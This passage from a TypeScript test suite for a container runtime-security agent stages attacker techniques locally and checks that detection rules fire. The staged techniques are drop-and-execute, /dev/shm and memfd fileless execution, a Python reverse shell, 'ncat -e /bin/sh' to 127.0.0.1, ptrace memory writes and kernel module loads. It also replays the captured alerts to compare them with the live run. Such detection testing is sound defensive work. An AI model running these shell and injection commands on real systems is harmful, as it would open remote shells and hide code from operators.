          fields: { 'fd.name': etc, 'proc.name': 'touch', 'proc.cmdline': `touch ${etc}`, 'proc.pname': 'containerd-shim', 'user.name': 'root', ...inside(a) },
          correlation: keys(a, r1.childPid),
        },
        {
          rule: 'Write Below Binary Directory',
          where: byPid(r2.childPid),
          fields: { 'fd.name': bin, 'proc.name': 'cp', 'proc.cmdline': `cp /usr/bin/true ${bin}`, 'proc.pname': 'containerd-shim', 'user.name': 'root', ...inside(a) },
          correlation: keys(a, r2.childPid),
        },
      ]);
    });

    it('container a: a binary dropped in the overlay\'s upper layer and executed (drift)', async (t) => {
      if (!need(t, a)) return;
      const path = join(a.overlay!.merged, `${tag}-drift`);
      const comm = basename(path).slice(0, 15);
      const from = agent.alerts.length;
      const r = ok(await ctrExec(a, ['sh', '-c', `cp /usr/bin/true ${path} && ${path} dropped`]), 'ctr-exec');
      const actor = { 'proc.exepath': path, 'proc.cmdline': `${comm} dropped`, 'proc.pname': 'sh', 'user.name': 'root' };
      const ck = { containerId: a.id, podUid: a.podUid, execSession: startsWith(`${a.id}:${r.childPid}:`) };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Drop and Execute in Container', where: field('proc.exepath', path), fields: { ...actor, ...inside(a) }, correlation: ck },
        { rule: 'Drop and execute new binary in container', where: field('proc.exepath', path), fields: { ...actor, 'proc.name': comm, 'evt.type': 'execve' }, correlation: ck },
      ]);
    });

    it('container a: a binary dropped in the container\'s own /dev/shm and executed', async (t) => {
      if (!need(t, a)) return;
      const path = `/dev/shm/${tag}-ctr-shm`;
      const comm = basename(path).slice(0, 15);
      const from = agent.alerts.length;
      const r = ok(await ctrExec(a, ['sh', '-c', `cp /usr/bin/true ${path} && ${path} dropped && test -x ${path}`]), 'ctr-exec');
      assert.ok(!existsSync(path), 'the file is in the container\'s private /dev/shm, not the host\'s');
      const actor = { 'proc.exepath': path, 'proc.cmdline': `${comm} dropped`, 'proc.pname': 'sh', 'user.name': 'root' };
      const ck = { containerId: a.id, podUid: a.podUid, execSession: startsWith(`${a.id}:${r.childPid}:`) };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Executable Run From Temporary Directory', where: field('proc.exepath', path), fields: { ...actor, ...inside(a) }, correlation: ck },
        { rule: 'Execution from /dev/shm', where: field('proc.exepath', path), fields: { ...actor, 'proc.name': comm, 'evt.type': 'execve' }, correlation: ck },
      ]);
    });

    it('container a: fileless execution through /proc/self/fd/N of a memfd', async (t) => {
      if (!need(t, a)) return;
      const name = `${tag}-ctr-memfd`;
      const from = agent.alerts.length;
      const r = ok(await ctrExec(a, [PY, FIXTURE, 'memfd-procfd', name]), 'ctr-exec');
      const comm = r.stdout.trim();
      assert.ok(comm, 'the memfd program printed its name');
      const actor = { 'proc.exepath': `/memfd:${name}`, 'proc.cmdline': `${comm} /proc/self/comm`, 'proc.pname': 'containerd-shim', 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Fileless Execution via memfd', where: byPid(r.childPid), fields: { ...actor, ...inside(a) }, correlation: keys(a, r.childPid) },
        { rule: 'Fileless execution via memfd_create', where: byPid(r.childPid), fields: { ...actor, 'proc.name': comm, 'evt.type': 'execve' }, correlation: keys(a, r.childPid) },
      ]);
    });

    it('container a: a reverse shell (python dup2()s a socket to 127.0.0.1 onto 0/1/2 and runs sh)', async (t) => {
      if (!need(t, a)) return;
      const token = `${tag}-ctr-revshell-ran`;
      const listener = await listen(`echo ${token}; exit\n`);
      try {
        const marker = `${tag}-ctr-revshell`;
        const from = agent.alerts.length;
        const r = ok(await ctrExec(a, [PY, FIXTURE, 'revshell', String(listener.port), marker]), 'ctr-exec');
        const conn = await listener.next();
        assert.ok(conn.received.includes(token), `the shell ran the listener's commands: ${conn.received}`);
        const name = `127.0.0.1:${conn.remotePort}->127.0.0.1:${listener.port}`;
        const py = { 'proc.name': 'python3', 'proc.cmdline': `python3 ${FIXTURE} revshell ${listener.port} ${marker}`, 'proc.pname': 'containerd-shim', 'user.name': 'root' };
        await expectAlerts(t, agent, from, r.end, [
          {
            rule: 'Reverse Shell',
            where: all(byPid(r.childPid), field('evt.rawres', 0)),
            fields: { 'evt.type': 'dup2', 'fd.name': name, ...py, ...inside(a) },
            correlation: keys(a, r.childPid),
          },
          {
            rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
            where: all(byPid(r.childPid), field('evt.type', 'dup2'), field('proc.name', 'python3')),
            fields: { 'fd.name': name, ...py },
            correlation: keys(a, r.childPid),
          },
          {
            rule: 'Reverse Shell',
            where: all(byPid(r.childPid), field('evt.type', 'execve')),
            fields: {
              'proc.name': 'sh', 'proc.cmdline': `sh -i -s ${marker}`, 'proc.pname': 'containerd-shim', 'proc.stdin.name': name, 'proc.stdout.name': name,
              'user.name': 'root', ...inside(a),
            },
            correlation: keys(a, r.childPid),
          },
        ]);
      } finally {
        await listener.close();
      }
    });

    it('container a: ncat -e /bin/sh to 127.0.0.1', { skip: noNcat }, async (t) => {
      if (!need(t, a)) return;
      const token = `${tag}-ctr-ncat-ran`;
      const listener = await listen(`echo ${token}; exit\n`);
      try {
        const from = agent.alerts.length;
        const r = ok(await ctrExec(a, [NCAT!, '-e', '/bin/sh', '127.0.0.1', String(listener.port)]), 'ctr-exec');
        const conn = await listener.next();
        assert.ok(conn.received.includes(token), `the shell ran the listener's commands: ${conn.received}`);
        const actor = { 'proc.name': 'ncat', 'proc.cmdline': `ncat -e /bin/sh 127.0.0.1 ${listener.port}`, 'proc.pname': 'containerd-shim', 'user.name': 'root' };
        await expectAlerts(t, agent, from, r.end, [
          { rule: 'Netcat Remote Code Execution in Container', where: byPid(r.childPid), fields: { ...actor, 'evt.type': 'execve' }, correlation: keys(a, r.childPid) },
          { rule: 'Netcat or Socat Runs a Program', where: byPid(r.childPid), fields: { ...actor, ...inside(a) }, correlation: keys(a, r.childPid) },
          { rule: 'Network Tool Launched in Container', where: byPid(r.childPid), fields: { ...actor, ...inside(a) }, correlation: keys(a, r.childPid) },
        ]);
      } finally {
        await listener.close();
      }
    });

    it('container a: ptrace attach and memory write', async (t) => {
      if (!need(t, a)) return;
      const marker = `${tag}-ctr-ptrace`;
      const from = agent.alerts.length;
      const r = ok(await ctrExec(a, [PY, FIXTURE, 'ptrace', marker]), 'ctr-exec');
      // The tracee's pid as the tracer passed it: a pid of the container's namespace.
      const target = Number(/attached=(\d+)/.exec(r.stdout)?.[1]);
      assert.ok(target > 0, r.stdout);
      const actor = { 'proc.name': 'python3', 'proc.cmdline': `python3 ${FIXTURE} ptrace ${marker}`, 'proc.pname': 'containerd-shim', 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        {
          rule: 'Process Attached via ptrace',
          where: byPid(r.childPid),
          fields: { 'evt.arg.request': 'PTRACE_ATTACH', 'evt.arg.pid': sameNumber(target), ...actor, ...inside(a) },
          correlation: keys(a, r.childPid),
        },
        {
          rule: 'Process Memory Written via ptrace',
          where: byPid(r.childPid),
          fields: { 'evt.arg.request': 'PTRACE_POKEDATA', 'evt.arg.pid': sameNumber(target), ...actor, ...inside(a) },
          correlation: keys(a, r.childPid),
        },
        { rule: 'PTRACE attached to process', where: byPid(r.childPid), fields: { 'evt.type': 'ptrace', ...actor }, correlation: keys(a, r.childPid) },
      ]);
    });

    it('container a: kernel module loads with garbage', async (t) => {
      if (!need(t, a)) return;
      const marker = `${tag}-ctr-module`;
      const file = join(tmp, `${marker}.ko`);
      const from = agent.alerts.length;
      const r = ok(await ctrExec(a, [PY, FIXTURE, 'module', marker, file]), 'ctr-exec');
      const m = /init_module=(\w+) finit_module=(\w+)/.exec(r.stdout);
      assert.ok(m, r.stdout);
      const actor = { 'proc.name': 'python3', 'proc.cmdline': `python3 ${FIXTURE} module ${marker} ${file}`, 'proc.pname': 'containerd-shim', 'user.name': 'root' };
      const init = all(byPid(r.childPid), field('evt.type', 'init_module'));
      const finit = all(byPid(r.childPid), field('evt.type', 'finit_module'));
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Kernel Module Loaded From Container', where: init, fields: { 'evt.res': m[1], 'fd.name': null, ...actor, ...inside(a) }, correlation: keys(a, r.childPid) },
        { rule: 'Kernel Module Loaded From Container', where: finit, fields: { 'evt.res': m[2], 'fd.name': file, ...actor, ...inside(a) }, correlation: keys(a, r.childPid) },
        { rule: 'Linux Kernel Module Injection Detected', where: init, fields: { 'evt.res': m[1], ...actor }, correlation: keys(a, r.childPid) },
        { rule: 'Linux Kernel Module Injection Detected', where: finit, fields: { 'evt.res': m[2], ...actor }, correlation: keys(a, r.childPid) },
      ]);
    });
  });

  describe('capture and replay', () => {
    it('replaying the live run\'s capture with the same rules gives the same alerts, in the same order', async (t) => {
      const stopped = await agent.stop();
      assert.equal(stopped.code, 0, `the agent exited with ${stopped.code} (${stopped.signal}):\n${agent.stderr.slice(-3000)}`);
      const drops = agent.alerts.filter((r) => r.alert.rule === DROP_RULE);
      if (drops.length) t.diagnostic(`${drops.length} drop alerts (live only: the sensor lost records, so the capture lacks them too): ${drops.map((d) => d.alert.output).join(' | ')}`);
      const live = agent.alerts.filter((r) => r.alert.rule !== DROP_RULE).map((r) => r.line);
      assert.ok(live.length > 0, 'the live run alerted');
      const replay = await runCli(['replay', '--source', 'syscall', capture, '-o', 'json', '--no-summary', ...RULE_ARGS]);
      assert.equal(replay.code, 0, replay.stderr);
      const replayed = replay.stdout.split('\n').filter((l) => l.trim());
      t.diagnostic(`live: ${live.length} alerts; replay: ${replayed.length} alerts`);
      if (JSON.stringify(live) === JSON.stringify(replayed)) return;
      assert.fail(`the replay differs from the live run (${live.length} live alerts, ${replayed.length} replayed):\n${alertListDiff(live, replayed)}`);
    });
  });
});

/**
 * The differences between two alert lists: which fields differ in how many
 * alerts (with the rules and an example), then the first few alerts that
 * differ, field by field.
 */
function alertListDiff(live: readonly string[], replayed: readonly string[]): string {
  const details: string[] = [];
  const byField = new Map<string, { count: number; rules: Set<string>; example: string }>();
  const note = (key: string, rule: string, example: string): void => {
    const e = byField.get(key) ?? { count: 0, rules: new Set<string>(), example };
    e.count++;
    e.rules.add(rule);
    byField.set(key, e);
  };
  const n = Math.max(live.length, replayed.length);
  let differing = 0;
  for (let i = 0; i < n; i++) {
    if (live[i] === replayed[i]) continue;
    differing++;
    if (live[i] === undefined || replayed[i] === undefined) {
      const only = live[i] === undefined ? 'replay' : 'live run';
      note(`(alert only in the ${only})`, String((JSON.parse((live[i] ?? replayed[i])!) as { rule: string }).rule), '');
      if (details.length < 15) details.push(`#${i}: only in the ${only}: ${(live[i] ?? replayed[i])!.slice(0, 400)}`);
      continue;
    }
    const a = JSON.parse(live[i]!) as Record<string, unknown>;
    const b = JSON.parse(replayed[i]!) as Record<string, unknown>;
    const rule = String(a.rule);
    const diffs: string[] = [];
    for (const k of new Set([...Object.keys(a), ...Object.keys(b)])) {
      if (k === 'output') continue; // the output text repeats output_fields
      if (k === 'output_fields') {
        const fa = a[k] as Record<string, unknown>;
        const fb = b[k] as Record<string, unknown>;
        for (const f of new Set([...Object.keys(fa), ...Object.keys(fb)])) {
          if (JSON.stringify(fa[f]) === JSON.stringify(fb[f])) continue;
          const d = `${f}: live ${JSON.stringify(fa[f])}, replay ${JSON.stringify(fb[f])}`;
          diffs.push(d);
          note(f, rule, d);
        }
      } else if (JSON.stringify(a[k]) !== JSON.stringify(b[k])) {
        const d = `${k}: live ${JSON.stringify(a[k])}, replay ${JSON.stringify(b[k])}`;
        diffs.push(d);
        note(k, rule, d);
      }
    }
    if (!diffs.length && a.output !== b.output) {
      diffs.push(`output: live ${JSON.stringify(a.output)}, replay ${JSON.stringify(b.output)}`);
      note('output', rule, diffs[0]!);
    }
    if (details.length < 15) {
      const corr = a.correlation as Record<string, string> | undefined;
      details.push(`#${i} ${rule} (pid ${corr?.pid}${corr?.containerId ? `, container ${corr.containerId}` : ''}): ${diffs.join('; ')}`);
    }
  }
  const summary = [...byField].map(([k, e]) => `  ${k} differs in ${e.count} alerts (rules: ${[...e.rules].join(', ')})${e.example ? `; e.g. ${e.example}` : ''}`);
  return [`${differing} alerts differ:`, ...summary, 'first differences:', ...details, ...(differing > details.length ? [`... and ${differing - details.length} more`] : [])].join('\n');
}
